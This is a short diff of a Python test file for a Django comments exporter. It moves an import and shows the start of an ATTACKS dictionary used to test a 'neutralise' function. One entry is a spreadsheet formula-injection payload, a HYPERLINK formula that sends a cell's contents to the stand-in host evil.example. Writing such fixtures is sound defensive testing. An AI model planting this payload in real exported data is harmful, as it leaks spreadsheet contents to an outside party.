@@ -11,7 +11,7 @@ import pytest
 from django.core.management import call_command
 
 from comments.exports import neutralise
-from tests.comments.conftest import make_comment
+from tests.factories import make_comment
 
 ATTACKS = {
     "name": '=HYPERLINK("http://evil.example/?"&A1,"Klikk")',
